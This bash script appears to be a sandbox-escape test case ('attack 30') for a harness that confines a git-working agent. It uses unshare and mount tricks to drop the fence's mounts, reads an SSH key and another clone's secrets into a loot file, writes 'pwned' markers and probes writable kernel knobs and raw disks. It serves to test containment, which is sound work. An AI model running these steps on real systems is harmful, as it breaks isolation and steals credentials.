#!/usr/bin/env bash
# attack 30 - runs inside the fence, cwd = top of the clone. @-words are filled in by the test.
set +e
exec </dev/null
H='@HOME@'; M='@MAIN@'; P='@PORT@'; TOP=$PWD
git() { timeout 4 git "$@"; }
commit() { git -c user.name=agent -c user.email=agent@example.invalid -c commit.gpgSign=false -c core.hooksPath=/dev/null commit -q --no-verify "$@"; }
L=$TOP/attack-30-loot.txt; R=$TOP/attack-30-report.txt; : >"$L"
body='for d in "$1" "$1/.ssh" "$1/secrets" "$1/.local" "$2" /tmp /home /root /run; do umount -l "$d" 2>/dev/null; umount -l "$d" 2>/dev/null; done
mount -o remount,bind,rw / 2>/dev/null; mount -o remount,bind,rw "$1" 2>/dev/null; mount -o remount,bind,rw "$2" 2>/dev/null
mkdir -p "$3/.attack-30-m" && mount --rbind / "$3/.attack-30-m" 2>/dev/null
for r in "" "$3/.attack-30-m"; do
  cat "$r$1/.ssh/id_test" "$r$1/secrets/other-clone/file" >>"$4" 2>/dev/null
  echo x 2>/dev/null >"$r$1/pwned-30-mount"; echo x 2>/dev/null >"$r$2/attack-30-marker.txt"
done'
for u in "unshare -rm" "unshare -m" "unshare -rmpf --mount-proc" "unshare -rmU --propagation private"; do
  timeout 2 $u sh -c "$body" _ "$H" "$M" "$TOP" "$L" </dev/null >/dev/null 2>&1
done
rmdir .attack-30-m 2>/dev/null
{
  for d in / /etc /etc/cron.d /usr /usr/bin /usr/local /usr/local/bin /opt /srv /var /var/lib /var/tmp /var/spool /var/log /tmp /run "/run/user/$(id -u)" /dev/shm /mnt /media /home /root /boot \
           /sys/fs/cgroup /sys/kernel /lib /bin "$H" "$H/.config" "$H/.local" "$H/.local/share" "$H/.local/share/spool" "$H/.local/share/spool/clones" "$H/.ssh" "$H/secrets" "$H/secrets/other-clone" "$H/.cache" "$M" "$M/.git" "$M/.spool" "$M/.spool/.state" "$(dirname "$TOP")"; do
    [ -d "$d" ] && [ -w "$d" ] && echo "W $(stat -Lc '%d:%i' "$d") $d"
  done
  for f in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sysrq-trigger /sys/kernel/uevent_helper; do (exec 9>>"$f") 2>/dev/null && echo "K 0:0 $f"; done
  for b in /dev/sd? /dev/vd? /dev/nvme?n? /dev/mem; do [ -e "$b" ] && (exec 9<"$b") 2>/dev/null && echo "D 0:0 $b"; done
} >"$R"
git add -A "$L" "$R"; commit -m 'attack 30'
exit 0
